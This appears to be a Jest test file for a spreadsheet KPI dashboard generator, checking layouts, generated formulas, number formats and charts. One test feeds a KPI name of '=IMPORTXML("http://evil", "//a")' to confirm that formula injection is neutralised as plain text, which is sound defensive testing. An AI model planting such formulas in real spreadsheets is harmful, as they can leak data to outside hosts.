/** The DashboardPlan: which sheets, blocks, formulas, formats and charts a set of KPIs gives. */
import { COMMA_SYNTAX, parseFormula, SEMICOLON_SYNTAX, walk } from '../../../src/core/formula';
import { HyperFormula } from 'hyperformula';
import { DISPLAY_ONLY_FUNCTIONS } from '../../../emulator';
import { ensureEngineFunctions } from '../../../emulator/engine/workbook-engine';
import { buildDashboardPlan, dashboardsFor, type DashboardInput } from '../../../src/core/dashboard/build';
import {
  calcColumn,
  FIRST_KPI_ROW,
  SERIES_COLUMN,
  TABLE_HEADER_ROW,
  visibleColumn,
  WINDOW,
} from '../../../src/core/dashboard/layout';
import type { Block, ChartSpec, SheetPlan } from '../../../src/core/dashboard/plan';
import type { Kpi, KpiSource, Objective } from '../../../src/core/kpi/model';
import { CATALOG } from '../../../src/functions/catalog';

const objective = (id: string, level: Objective['level'] = 'strategic'): Objective => ({
  id,
  title: `Objectif ${id}`,
  description: '',
  horizon: '2026-12-31',
  level,
  owner: '',
});

const kpi = (id: string, over: Partial<Kpi> = {}): Kpi => ({
  id,
  name: `KPI ${id}`,
  definition: '',
  unit: '€',
  direction: 'higher',
  objectiveId: 'o1',
  indicator: 'lagging',
  source: { kind: 'range', values: 'Ventes!D2:D25', dates: 'Ventes!A2:A25' },
  baseline: null,
  target: 1000,
  deadline: '2026-12-31',
  frequency: 'monthly',
  benchmark: null,
  owner: '',
  level: 'strategic',
  ...over,
});

const input = (kpis: Kpi[], over: Partial<DashboardInput> = {}): DashboardInput => ({
  lang: 'fr',
  syntax: SEMICOLON_SYNTAX,
  layout: 'by_level',
  objectives: [objective('o1'), objective('o2', 'tactical')],
  kpis,
  historySheet: null,
  refreshedText: '15/06/2026 10:00',
  ...over,
});

const blockOf = (s: SheetPlan, id: string): Block => {
  const b = s.blocks.find((x) => x.id === id);
  if (!b) throw new Error(`no block ${id}`);
  return b;
};
const cellOf = (s: SheetPlan, row: number, column: number): string | number => {
  for (const b of s.blocks) {
    if (row >= b.row && row < b.row + b.rows && column >= b.column && column < b.column + b.columns)
      return b.values[row - b.row][column - b.column];
  }
  return '';
};
const formatOf = (s: SheetPlan, row: number, column: number): string => {
  for (const b of s.blocks) {
    if (row >= b.row && row < b.row + b.rows && column >= b.column && column < b.column + b.columns)
      return b.numberFormats[row - b.row][column - b.column];
  }
  return '';
};
const chartsOf = (s: SheetPlan, role: ChartSpec['role']) => s.charts.filter((c) => c.role === role);
const allFormulas = (s: SheetPlan): string[] => [
  ...s.blocks.flatMap((b) => b.values.flat().filter((v): v is string => typeof v === 'string' && v.startsWith('='))),
  ...s.conditionalFormats.flatMap((c) => (c.when === 'formula' ? [c.formula] : [])),
];

describe('one dashboard per audience level that has KPIs, or one overall', () => {
  const kpis = [
    kpi('a', { level: 'operational' }),
    kpi('b', { level: 'strategic' }),
    kpi('c', { level: 'operational' }),
  ];
  test.each([
    ['fr', 'by_level', ['strategic', 'operational'], ['Direction', 'Équipes']],
    ['en', 'by_level', ['strategic', 'operational'], ['Leadership', 'Teams']],
    ['fr', 'overall', ['overall'], ['Tableau de bord']],
    ['en', 'overall', ['overall'], ['Dashboard']],
  ] as const)('%s, %s', (lang, layout, keys, names) => {
    const plan = buildDashboardPlan(input(kpis, { lang, layout }));
    expect(plan.sheets.map((s) => s.key)).toEqual(keys);
    expect(plan.sheets.map((s) => s.name)).toEqual(names);
  });
  test('all three levels have their names', () => {
    const plan = buildDashboardPlan(
      input([kpi('a', { level: 'tactical' }), kpi('b', { level: 'strategic' }), kpi('c', { level: 'operational' })]),
    );
    expect(plan.sheets.map((s) => [s.key, s.name, s.kpiIds])).toEqual([
      ['strategic', 'Direction', ['b']],
      ['tactical', 'Managers', ['a']],
      ['operational', 'Équipes', ['c']],
    ]);
  });
  test('overall: strategic first, then tactical, then operational; input order within', () => {
    expect(
      dashboardsFor(
        [
          kpi('a', { level: 'operational' }),
          kpi('b', { level: 'tactical' }),
          kpi('c', { level: 'strategic' }),
          kpi('d', { level: 'tactical' }),
        ],
        'overall',
      )[0].kpis.map((k) => k.id),
    ).toEqual(['c', 'b', 'd', 'a']);
  });
  test('KPIs grouped by objective, in the objectives order, unlinked ones last', () => {
    const plan = buildDashboardPlan(
      input([
        kpi('a', { objectiveId: '' }),
        kpi('b', { objectiveId: 'o2' }),
        kpi('c', { objectiveId: 'o1' }),
        kpi('d', { objectiveId: 'o2' }),
      ]),
    );
    expect(plan.sheets[0].kpiIds).toEqual(['c', 'b', 'd', 'a']);
    expect(cellOf(plan.sheets[0], FIRST_KPI_ROW, visibleColumn('objective'))).toBe('Objectif o1');
    expect(cellOf(plan.sheets[0], FIRST_KPI_ROW + 3, visibleColumn('objective'))).toBe('');
  });
  test('no KPI at all: one dashboard saying how to define some, no chart', () => {
    const plan = buildDashboardPlan(input([]));
    expect(plan.sheets).toHaveLength(1);
    expect(plan.sheets[0].key).toBe('overall');
    expect(plan.sheets[0].charts).toEqual([]);
    expect(cellOf(plan.sheets[0], 3, 1)).toMatch(/Aucun KPI/);
  });
});

describe('a table of KPI sets → blocks, formulas and charts', () => {
  test('one dated monthly KPI: the row, its calculations, its chart data, its charts', () => {
    const [s] = buildDashboardPlan(input([kpi('ca', { name: 'CA', benchmark: 800 })])).sheets;
    expect(s.blocks.map((b) => [b.id, b.row, b.column, b.rows, b.columns])).toEqual([
      ['header', 1, 1, 4, 2],
      ['table', TABLE_HEADER_ROW, 1, 2, 13],
      ['calc', TABLE_HEADER_ROW, calcColumn('n'), 2, 17],
      ['series', TABLE_HEADER_ROW, SERIES_COLUMN, 1 + WINDOW.monthly, 4],
    ]);
    const r = FIRST_KPI_ROW;
    expect(cellOf(s, r, visibleColumn('name'))).toBe('CA');
    expect(cellOf(s, r, visibleColumn('target'))).toBe(1000);
    expect(cellOf(s, r, visibleColumn('current'))).toBe('=IF($O$6=0;"";INDEX(Ventes!D2:D25;$P$6;1))');
    // The same plan for an en_US spreadsheet: "," between arguments.
    const [en] = buildDashboardPlan(
      input([kpi('ca', { name: 'CA', benchmark: 800 })], { syntax: COMMA_SYNTAX }),
    ).sheets;
    expect(cellOf(en, r, visibleColumn('current'))).toBe('=IF($O$6=0,"",INDEX(Ventes!D2:D25,$P$6,1))');
    expect(cellOf(s, r, calcColumn('lastPos'))).toBe(
      '=IF($O$6=0;"";ARRAYFORMULA(LARGE(IF(ISNUMBER(Ventes!D2:D25);SEQUENCE(ROWS(Ventes!D2:D25)));1)))',
    );
    expect(cellOf(s, r, visibleColumn('status'))).toBe(
      '=IF(OR($D$6="";$E$6="");"Pas de données";IF($AC$6*($D$6-$E$6)>=0;"En bonne voie";IF($F$6="";"En retard";IF(TODAY()>=DATE(2026;12;31);"En retard";IF($AB$6-$F$6<=1/10;"En bonne voie";IF($AB$6-$F$6<=25/100;"À surveiller";"En retard"))))))',
    );
    expect(cellOf(s, r, visibleColumn('vsPrevious'))).toBe(
      '=IF(OR($D$6="";$T$6="");"";IF($T$6=0;"";($D$6-$T$6)/ABS($T$6)))',
    );
    expect(cellOf(s, r, visibleColumn('sparkline'))).toBe(
      '=IF(COUNT($AI$6:$AI$29)=0;"";SPARKLINE(FILTER($AI$6:$AI$29;ISNUMBER($AI$6:$AI$29))))',
    );
    expect(cellOf(s, r, calcColumn('benchmark'))).toBe(800);
    expect(cellOf(s, r, calcColumn('direction'))).toBe(1);
    // Formats: the unit on values, arrows on changes, a percentage on progress.
    expect(formatOf(s, r, visibleColumn('current'))).toBe('#,##0 "€"');
    expect(formatOf(s, r, visibleColumn('vsPrevious'))).toBe('"▲ "+0.0%;"▼ "-0.0%;"► "0.0%');
    expect(formatOf(s, r, visibleColumn('progress'))).toBe('0%');
    expect(formatOf(s, r, visibleColumn('name'))).toBe('@');
    // Charts: progress of every KPI (columns), then its line over time with the target.
    expect(s.charts.map((c) => [c.type, c.role, c.kpiId])).toEqual([
      ['COLUMN', 'progress', null],
      ['LINE', 'trend', 'ca'],
    ]);
    expect(chartsOf(s, 'trend')[0].ranges).toEqual([
      { sheet: 'self', row: TABLE_HEADER_ROW, column: SERIES_COLUMN + 1, rows: 1 + WINDOW.monthly, columns: 3 },
    ]);
    expect(chartsOf(s, 'progress')[0].ranges).toEqual([
      { sheet: 'self', row: TABLE_HEADER_ROW, column: visibleColumn('name'), rows: 2, columns: 1 },
      { sheet: 'self', row: TABLE_HEADER_ROW, column: visibleColumn('progress'), rows: 2, columns: 1 },
      { sheet: 'self', row: TABLE_HEADER_ROW, column: calcColumn('expected'), rows: 2, columns: 1 },
    ]);
    expect(s.hiddenColumns).toEqual([{ column: calcColumn('n'), count: s.columns - calcColumn('n') + 1 }]);
  });

  test('without a target, the line chart has no target line', () => {
    const [s] = buildDashboardPlan(input([kpi('x', { target: null })])).sheets;
    expect(chartsOf(s, 'trend')[0].ranges).toEqual([
      { sheet: 'self', row: TABLE_HEADER_ROW, column: SERIES_COLUMN + 1, rows: 1 + WINDOW.monthly, columns: 2 },
    ]);
  });

  test('a source with categories adds a bar chart over the source itself', () => {
    const source: KpiSource = { kind: 'range', values: "'Canaux 2026'!C2:C5", categories: "'Canaux 2026'!A2:A5" };
    const [s] = buildDashboardPlan(input([kpi('conv', { name: 'Conversion', unit: '%', source })])).sheets;
    const [bar] = chartsOf(s, 'categories');
    expect(bar.type).toBe('BAR');
    expect(bar.ranges).toEqual([
      { sheet: 'source', a1: "'Canaux 2026'!A2:A5" },
      { sheet: 'source', a1: "'Canaux 2026'!C2:C5" },
    ]);
    expect(bar.options.title).toBe('Conversion par catégorie');
    expect(formatOf(s, FIRST_KPI_ROW, visibleColumn('current'))).toBe('0.0%');
    // Not a time series: no line, no "previous period" nor "last year"; a column sparkline of the breakdown.
    expect(chartsOf(s, 'trend')).toEqual([]);
    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('vsPrevious'))).toBe('');
    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('vsLastYear'))).toBe('');
    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('sparkline'))).toBe(
      `=IF(COUNT('Canaux 2026'!C2:C5)=0;"";SPARKLINE(FILTER('Canaux 2026'!C2:C5;ISNUMBER('Canaux 2026'!C2:C5));{"charttype"\\"column"}))`,
    );
  });

  test('a single-cell KPI reads the live cell and the history sheet by its current name', () => {
    const k = kpi('cell', { source: { kind: 'cell', ref: 'Saisie!B2' }, frequency: 'weekly' });
    expect(() => buildDashboardPlan(input([k]))).toThrow(/history/);
    const [s] = buildDashboardPlan(input([k], { historySheet: 'Boussole · Historique' })).sheets;
    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('current'))).toBe('=IF(ISNUMBER(Saisie!B2);Saisie!B2;"")');
    expect(cellOf(s, FIRST_KPI_ROW, calcColumn('n'))).toBe(
      `=IFERROR(ARRAYFORMULA(SUM(IF(('Boussole · Historique'!A2:A="cell")*ISNUMBER('Boussole · Historique'!D2:D)*('Boussole · Historique'!B2:B<>$AE$6);1;0)));0)`,
    );
    expect(cellOf(s, FIRST_KPI_ROW, calcColumn('currentPeriod'))).toBe(
      '=YEAR(TODAY()-WEEKDAY(TODAY();2)+4)&"-W"&RIGHT("0"&ISOWEEKNUM(TODAY());2)',
    );
  });

  test('many KPIs: one table row each, charts in a grid of two below the table, never overlapping', () => {
    const kpis = Array.from({ length: 7 }, (_, i) =>
      kpi(`k${i}`, i === 3 ? { source: { kind: 'range', values: 'C!B2:B5', categories: 'C!A2:A5' } } : {}),
    );
    const [s] = buildDashboardPlan(input(kpis)).sheets;
    expect(blockOf(s, 'table').rows).toBe(8);
    expect(blockOf(s, 'series').columns).toBe(4 * 7);
    // Each KPI's chart in table order; the breakdown by category gets bars instead of a line.
    expect(s.charts.map((c) => c.type)).toEqual(['COLUMN', 'LINE', 'LINE', 'LINE', 'BAR', 'LINE', 'LINE', 'LINE']);
    const lastRow = FIRST_KPI_ROW + 6;
    for (const c of s.charts) expect(c.position.row).toBeGreaterThan(lastRow);
    const boxes = s.charts.map((c) => ({
      top: c.position.row,
      left: c.position.column * 1000 + c.position.offsetX,
      w: Number(c.options.width),
    }));
    for (let i = 0; i < boxes.length; i++)
      for (let j = i + 1; j < boxes.length; j++)
        expect([boxes[i].top, boxes[i].left]).not.toEqual([boxes[j].top, boxes[j].left]);
    expect(s.rows).toBeGreaterThanOrEqual(Math.max(...s.charts.map((c) => c.position.row)));
  });
});

describe('the rules every plan keeps', () => {
  const kpis = [
    kpi('a'),
    kpi('b', {
      level: 'tactical',
      unit: '%',
      direction: 'lower',
      source: { kind: 'range', values: 'C!B2:B5', categories: 'C!A2:A5' },
    }),
    kpi('c', { level: 'operational', source: { kind: 'cell', ref: 'S!A1' }, frequency: 'quarterly' }),
    kpi('d', {
      source: { kind: 'range', values: 'Ventes!B2:M2', dates: 'Ventes!B1:M1' },
      frequency: 'daily',
      unit: 'other',
      unitLabel: 'visites',
    }),
    kpi('e', { source: { kind: 'range', values: 'Ventes!E2:E' }, frequency: 'weekly', unit: 'days' }),
    kpi('f', { source: { kind: 'cell', ref: "'Saisie hebdo'!C3" }, frequency: 'weekly', level: 'tactical' }),
  ];
  const plans = [
    buildDashboardPlan(input(kpis, { historySheet: "L'historique" })),
    buildDashboardPlan(input(kpis, { historySheet: 'History', layout: 'overall', lang: 'en' })),
  ];
  const sheets = plans.flatMap((p) => p.sheets);

  test('no pie, no 3-D: lines over time, columns to compare, bars for categories', () => {
    for (const c of sheets.flatMap((s) => s.charts)) {
      expect(['LINE', 'COLUMN', 'BAR']).toContain(c.type);
      expect(c.options).not.toHaveProperty('is3D');
      expect({ role: c.role, type: c.type }).toEqual({
        role: c.role,
        type: { trend: 'LINE', progress: 'COLUMN', categories: 'BAR' }[c.role],
      });
    }
  });

  test('built-in functions only, each one HyperFormula computes too; SPARKLINE fed exactly the numbers', () => {
    ensureEngineFunctions();
    const custom = new Set(CATALOG.map((f) => f.name));
    const engine = new Set(
      HyperFormula.getRegisteredFunctionNames('enGB').filter(
        (n) => !custom.has(n) && !DISPLAY_ONLY_FUNCTIONS.includes(n),
      ),
    );
    const used = new Set<string>();
    for (const s of sheets) {
      for (const f of allFormulas(s)) {
        const parsed = parseFormula(f, SEMICOLON_SYNTAX);
        if (!parsed.ok) throw new Error(`${f}: ${parsed.error}`);
        for (const node of walk(parsed.expr)) {
          if (node.kind !== 'call') continue;
          used.add(node.fn);
          if (node.fn !== 'SPARKLINE') continue;
          // Its data is FILTER(range; ISNUMBER(range)): never "" padding (undocumented in SPARKLINE).
          const [data] = node.args;
          expect(data?.kind === 'call' && data.fn).toBe('FILTER');
          if (data?.kind === 'call')
            expect(data.args[1]).toEqual({ kind: 'call', fn: 'ISNUMBER', args: [data.args[0]] });
        }
      }
    }
    expect([...used]).toEqual(
      expect.arrayContaining([
        'SEQUENCE',
        'LARGE',
        'SMALL',
        'INDEX',
        'TODAY',
        'ISOWEEKNUM',
        'EOMONTH',
        'EDATE',
        'COUNTIF',
        'REPT',
        'SPARKLINE',
      ]),
    );
    const unknown = [...used].filter((n) => n !== 'SPARKLINE' && !engine.has(n));
    expect(unknown).toEqual([]);
    for (const n of used) expect(custom.has(n)).toBe(false);
  });

  test('text literals are plain text: a KPI named like a formula stays a name', () => {
    const [s] = buildDashboardPlan(input([kpi('x', { name: '=IMPORTXML("http://evil", "//a")' })])).sheets;
    expect(cellOf(s, FIRST_KPI_ROW, 1)).toBe('=IMPORTXML("http://evil", "//a")');
    expect(formatOf(s, FIRST_KPI_ROW, 1)).toBe('@');
    for (const s2 of sheets)
      for (const b of s2.blocks)
        b.values.forEach((row, i) =>
          row.forEach((v, j) => {
            if (typeof v === 'string' && v !== '' && !v.startsWith('=')) expect(b.numberFormats[i][j]).toBe('@');
          }),
        );
  });

  test('same input, same plan; the plan depends on the KPIs, not on how many rows their data has', () => {
    expect(buildDashboardPlan(input(kpis, { historySheet: 'H' }))).toEqual(
      buildDashboardPlan(input(kpis, { historySheet: 'H' })),
    );
    const short = buildDashboardPlan(
      input([kpi('a', { source: { kind: 'range', values: 'V!B2:B37', dates: 'V!A2:A37' } })]),
    );
    const long = buildDashboardPlan(
      input([kpi('a', { source: { kind: 'range', values: 'V!B2:B3651', dates: 'V!A2:A3651' } })]),
    );
    const shape = (p: typeof short) =>
      p.sheets.map((s) => ({
        blocks: s.blocks.map((b) => [b.id, b.rows, b.columns]),
        charts: s.charts.length,
        rules: s.conditionalFormats.length,
        styles: s.styles.length,
      }));
    expect(shape(short)).toEqual(shape(long));
  });

  test('SMART scores as the sidebar computed them; blank when absent', () => {
    const [s] = buildDashboardPlan(input([kpi('a'), kpi('b')], { smartScores: { a: 85 } })).sheets;
    expect(cellOf(s, FIRST_KPI_ROW, visibleColumn('smart'))).toBe(85);
    expect(cellOf(s, FIRST_KPI_ROW + 1, visibleColumn('smart'))).toBe('');
  });

  test('the refreshed cell holds the text given, as plain text', () => {
    for (const s of sheets) {
      expect(cellOf(s, s.refreshedCell.row, s.refreshedCell.column)).toBe('15/06/2026 10:00');
      expect(formatOf(s, s.refreshedCell.row, s.refreshedCell.column)).toBe('@');
    }
  });

  test('a fixed number of styles and conditional formats, whatever the KPI count', () => {
    const count = (n: number) => {
      const [s] = buildDashboardPlan(input(Array.from({ length: n }, (_, i) => kpi(`k${i}`)))).sheets;
      return [s.styles.length, s.conditionalFormats.length, s.blocks.length, s.columnWidths.length];
    };
    expect(count(2)).toEqual(count(40));
  });
});
